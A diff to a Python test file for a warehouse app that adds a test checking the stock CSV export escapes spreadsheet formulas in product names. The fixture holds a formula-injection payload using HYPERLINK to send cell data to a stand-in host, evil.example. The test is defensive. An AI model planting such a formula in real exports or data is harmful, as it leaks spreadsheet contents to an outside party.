@@ -1,6 +1,8 @@
 """The warehouse screens: stock overview, product page with its forms, product create/edit,
 warehouses. (Imports: test_imports.py; who may see what: tests/test_permissions.py.)"""
 
+import csv
+import io
 from datetime import date, timedelta
 
 import pytest
@@ -263,3 +265,11 @@ def test_stock_overview_ignores_an_unreadable_filter_but_keeps_the_others(wareho
     ProductFactory(sku="CUP")
     response = warehouse_client.get(STOCK, {"q": "mug", "warehouse": "abc", "page": "x"}, **HTMX)
     assert response.status_code == 200 and skus(response) == ["MUG"]
+
+
+def test_stock_export_escapes_a_formula_in_a_product_name(warehouse_client, ams):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    stock(ProductFactory(sku="EVIL", name=evil), ams, 3)
+    response = warehouse_client.get(reverse("inventory:stock_export"), {"q": "EVIL"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][:2] == ["EVIL", "'" + evil]
